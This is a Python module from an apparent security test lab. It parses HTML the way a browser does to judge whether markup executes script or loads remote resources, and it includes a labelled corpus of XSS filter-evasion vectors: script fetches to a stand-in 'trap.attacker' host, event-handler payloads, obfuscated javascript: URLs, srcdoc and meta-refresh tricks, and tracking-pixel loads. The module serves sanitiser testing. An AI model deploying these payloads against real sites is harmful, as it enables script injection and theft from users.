"""Oracles that judge harm independently of every defence: a browser-grade HTML parse and transport evidence.

`judge(markup)` parses with html5lib (the WHATWG HTML parsing algorithm: entity decoding in attributes, RCDATA
in `<textarea>`/`<title>`, comments, foster parenting, mis-nested tags) and applies the HTML standard's rules for
what runs script (a `<script>` element, an event-handler content attribute `on*`, a URL attribute whose scheme is
`javascript:`/`vbscript:` or `data:text/html` after the URL parser's preprocessing, which strips leading C0
controls and spaces and removes every tab and newline, so `java\\tscript:` is `javascript:`; a `<meta>` refresh
to such a URL; an `<iframe srcdoc>` judged recursively) and what the document loads without any user action
(`<img src>`, `srcset`, `<link href>`, `<script src>`, `<iframe src>`, `<object data>`, media sources and
posters, `background`, `url(...)` in style, a `<meta>` refresh).

None of this shares code or lists with the hardened coordinator's sanitiser (`coordinator.sanitize`, a
`html.parser` drop list). The lab's renderer performs the passive loads through `UriRecorder` (the lab's only
network), so a load reaching the trap host is recorded there as execution evidence, as the official harness
records a callback; scripts are never run, the parse says whether they would.

`XSS_CORPUS` is a hand-labelled set of known vectors (OWASP XSS filter-evasion style) and inert look-alikes.
"""

from __future__ import annotations

import dataclasses
import re

import html5lib

# the HTML standard's URL-valued attributes that a vector can point at a script URL
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "cite",
                  "codebase", "lowsrc", "dynsrc", "srcdoc-url"}
# (element, attribute) pairs the document dereferences on load, with no user action
LOAD_ATTRIBUTES = {("img", "src"), ("img", "srcset"), ("img", "lowsrc"), ("image", "href"), ("image", "xlink:href"),
                   ("input", "src"), ("link", "href"), ("script", "src"), ("iframe", "src"), ("frame", "src"),
                   ("embed", "src"), ("object", "data"), ("video", "src"), ("video", "poster"), ("audio", "src"),
                   ("source", "src"), ("source", "srcset"), ("track", "src"), ("body", "background"),
                   ("table", "background"), ("td", "background")}
SCRIPT_SCHEMES = ("javascript:", "vbscript:", "data:text/html")
_STYLE_URL = re.compile(r"url\(\s*['\"]?([^'\")\s]+)", re.I)
_IMPORT = re.compile(r"@import\s+['\"]([^'\"]+)", re.I)
_REFRESH = re.compile(r"^\s*\d*\s*[;,]?\s*(?:url\s*=\s*)?['\"]?([^'\"]*)", re.I)


def url_preprocess(value: str) -> str:
    """What the WHATWG URL parser sees: leading/trailing C0 controls and spaces stripped, tabs/newlines removed."""
    value = value.strip("".join(chr(c) for c in range(0x21)))
    return re.sub(r"[\t\n\r]", "", value)


def is_script_url(value: str) -> bool:
    return url_preprocess(value).lower().startswith(SCRIPT_SCHEMES)


@dataclasses.dataclass
class Verdict:
    """What a browser would do with a piece of markup: scripts it would run and URIs it would load unasked."""

    executes: list[str] = dataclasses.field(default_factory=list)
    loads: list[str] = dataclasses.field(default_factory=list)

    @property
    def active(self) -> bool:
        return bool(self.executes)


def _local(tag) -> str:
    return tag.rsplit("}", 1)[-1].lower() if isinstance(tag, str) else ""


def _attr_name(name: str) -> str:
    # html5lib names foreign attributes "{namespace}local"; xlink:href is the one that matters here
    if name.startswith("{http://www.w3.org/1999/xlink}"):
        return "xlink:" + name.rsplit("}", 1)[-1]
    return name.rsplit("}", 1)[-1].lower()


def judge(markup: str, *, _depth: int = 0) -> Verdict:
    """Parse `markup` as a browser does (html5lib) and say what would execute and what would be loaded."""
    verdict = Verdict()
    tree = html5lib.parse(markup, treebuilder="etree", namespaceHTMLElements=False)
    for element in tree.iter():
        tag = _local(element.tag)
        if not tag:
            continue  # a comment or processing instruction
        attrs = {_attr_name(k): v for k, v in element.attrib.items()}
        if tag == "script" and (element.text or "").strip() or tag == "script" and "src" in attrs:
            verdict.executes.append("<script>")
        for name, value in attrs.items():
            if name.startswith("on"):
                verdict.executes.append(f"<{tag} {name}>")
            elif name in URL_ATTRIBUTES and is_script_url(value):
                verdict.executes.append(f"<{tag} {name}=script URL>")
            if (tag, name) in LOAD_ATTRIBUTES and value.strip() and not is_script_url(value):
                urls = [u.strip().split()[0] for u in value.split(",") if u.strip()] if name == "srcset" else [value]
                verdict.loads += [url_preprocess(u) for u in urls]
            if name == "style":
                verdict.loads += _STYLE_URL.findall(value)
        if tag == "iframe" and "srcdoc" in attrs and _depth < 3:
            inner = judge(attrs["srcdoc"], _depth=_depth + 1)
            verdict.executes += [f"<iframe srcdoc> {e}" for e in inner.executes]
            verdict.loads += inner.loads
        if tag == "meta" and attrs.get("http-equiv", "").lower() == "refresh":
            target = _REFRESH.match(attrs.get("content", ""))
            url = target.group(1).strip() if target else ""
            if url and is_script_url(url):
                verdict.executes.append("<meta refresh=script URL>")
            elif url:
                verdict.loads.append(url_preprocess(url))
        if tag == "style":
            text = element.text or ""
            verdict.loads += _STYLE_URL.findall(text) + _IMPORT.findall(text)
    return verdict


def nh3_clean(markup: str) -> str:
    """The markup after nh3 (ammonia) with its default policy: a well-kept sanitiser, used to cross-check the
    corpus (what it strips from a vector should leave nothing the parse judges active)."""
    import nh3

    return nh3.clean(markup)


TRAP = "http://trap.attacker"  # the attacker's callback host in the corpus (the lab's trap host)

# (markup, label): "executes" (a browser runs script, on load or on the user's click), "loads" (no script,
# but a resource on the trap host is fetched unasked), "inert"
XSS_CORPUS: list[tuple[str, str]] = [
    ('<p>Receipt</p><script>fetch("' + TRAP + '/cb")</script>', "executes"),
    ("<ScRiPt>fetch('" + TRAP + "/cb')</sCrIpT>", "executes"),
    ('<script src="' + TRAP + '/x.js"></script>', "executes"),
    ('<img src="x.png" onerror="steal()"><p>Receipt</p>', "executes"),
    ("<img src=x onerror=steal()>", "executes"),
    ('<svg onload="steal()"><circle r="4"/></svg>', "executes"),
    ('<body onload="steal()"><p>Receipt</p></body>', "executes"),
    ('<a href="javascript:steal()">Download receipt</a>', "executes"),
    ('<a href="java\tscript:steal()">Download receipt</a>', "executes"),       # a tab inside the scheme
    ('<a href="jav&#x09;ascript:steal()">Download receipt</a>', "executes"),   # the tab as a character reference
    ('<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:steal()">Receipt</a>', "executes"),
    ('<a href=" \x01javascript:steal()">Receipt</a>', "executes"),             # a leading C0 control
    ('<iframe src="javascript:steal()"></iframe>', "executes"),
    ('<iframe srcdoc="<script>steal()</script>"></iframe><p>Receipt</p>', "executes"),
    ('<div onmouseover="steal()">Receipt</div>', "executes"),
    ('<details open ontoggle="steal()"><summary>Receipt</summary></details>', "executes"),
    ('<input autofocus onfocus="steal()">', "executes"),
    ('<form action="javascript:steal()"><button>Pay</button></form>', "executes"),
    ('<meta http-equiv="refresh" content="0;url=javascript:steal()">', "executes"),
    ('<object data="javascript:steal()"></object>', "executes"),
    ('<math><a xlink:href="javascript:steal()">Receipt</a></math>', "executes"),
    ('<a href="data:text/html,<script>steal()</script>">Receipt</a>', "executes"),
    ('<img src="' + TRAP + '/pixel.png" alt="logo"><p>Receipt</p>', "loads"),   # a passive load
    ('<meta http-equiv="refresh" content="0;url=' + TRAP + '/phish">', "loads"),
    ('<link rel="stylesheet" href="' + TRAP + '/s.css">', "loads"),
    ('<div style="background:url(' + TRAP + '/bg.png)">Receipt</div>', "loads"),
    ('<img srcset="' + TRAP + '/a.png 1x, ' + TRAP + '/b.png 2x">', "loads"),
    ('<video poster="' + TRAP + '/p.png"></video>', "loads"),
    ("<p>Receipt</p><ul><li>Item</li></ul>", "inert"),
    ("<table><tr><td>Total</td><td>42.10</td></tr></table>", "inert"),
    ('<a href="https://docs.lab/receipt">Download receipt</a>', "inert"),
    ("<b>Confirmed</b>", "inert"),
    ("<p>Type javascript:alert(1) into nothing; this is text</p>", "inert"),
    ('<p title="onload=steal()">Receipt</p>', "inert"),                     # a handler's name inside a value
    ("<!-- <script>steal()</script> --><p>Receipt</p>", "inert"),           # a comment
    ("<textarea><script>steal()</script></textarea>", "inert"),             # RCDATA: text, not a tag
    ("<title><img src=x onerror=steal()></title>", "inert"),                # RCDATA too
    ("<code>&lt;script&gt;steal()&lt;/script&gt;</code>", "inert"),         # escaped
    ('<p data-href="javascript:steal()">Receipt</p>', "inert"),             # not a URL attribute
    ('<img src="https://cdn.lab/logo.png" alt="logo">', "inert"),           # loads, but from the lab, not the trap
]


def label_of(markup: str, trap_host: str = "trap.attacker") -> str:
    """The oracle's label on the corpus's scale: executes / loads (a trap URI) / inert."""
    verdict = judge(markup)
    if verdict.active:
        return "executes"
    if any(trap_host in u for u in verdict.loads):
        return "loads"
    return "inert"
